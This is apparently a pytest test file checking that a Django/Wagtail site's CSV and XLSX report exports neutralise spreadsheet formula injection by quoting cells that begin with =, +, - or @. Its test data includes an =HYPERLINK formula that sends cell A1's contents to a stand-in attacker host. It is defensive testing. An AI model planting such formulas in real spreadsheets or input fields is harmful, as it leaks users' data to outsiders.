"""Spreadsheet exports never carry a formula typed by a visitor or member (issue 10, finding 12).

Queries and titles that begin with ``=``, ``+``, ``-`` or ``@`` are planted, each
export the editors (and administrators) can download is fetched as CSV, and no
cell may begin with a formula character: each such cell is the typed text with
a leading single quote (OWASP's rule). The XLSX exports store them as text.
"""

import csv
import io

from django.urls import reverse

import openpyxl
import pytest

from core.spreadsheets import FORMULA_PREFIXES, spreadsheet_safe
from search.services import search_query_log
from tests.factories import BlogPageFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)"]


def _csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def _assert_no_formula(rows, planted):
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    # Each planted text is there, neutralised, not dropped.
    for text in planted:
        assert "'" + text in cells, text


@pytest.fixture
def planted_queries(portal):
    for query in HOSTILE:
        search_query_log(query=query, found=False)
    return [query.lower() for query in HOSTILE]  # the log keeps queries lower-cased


@pytest.mark.parametrize(
    "url_name", ["kindred_search_reports:popular", "kindred_search_reports:zero"]
)
def test_editors_search_reports_export_no_formulas(client, editor, planted_queries, url_name):
    client.force_login(editor)

    response = client.get(reverse(url_name), {"export": "csv"})

    _assert_no_formula(_csv_rows(response), planted_queries)


def test_wagtails_search_terms_report_exports_no_formulas(client, superuser, planted_queries):
    client.force_login(superuser)

    response = client.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"})

    _assert_no_formula(_csv_rows(response), planted_queries)


def test_page_reports_export_member_titles_without_formulas(client, superuser, blog_index):
    # Titles are typed by members; Wagtail's page reports export them.
    for title in HOSTILE:
        BlogPageFactory(parent=blog_index, title=title)
    client.force_login(superuser)

    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    _assert_no_formula(_csv_rows(response), HOSTILE)


def test_xlsx_exports_store_formula_text_as_text(client, editor, planted_queries):
    client.force_login(editor)

    response = client.get(reverse("kindred_search_reports:popular"), {"export": "xlsx"})

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert cells
    assert all(cell.data_type != "f" for cell in cells)
    assert {cell.value for cell in cells} >= set(planted_queries)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("fatigue", "fatigue"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected
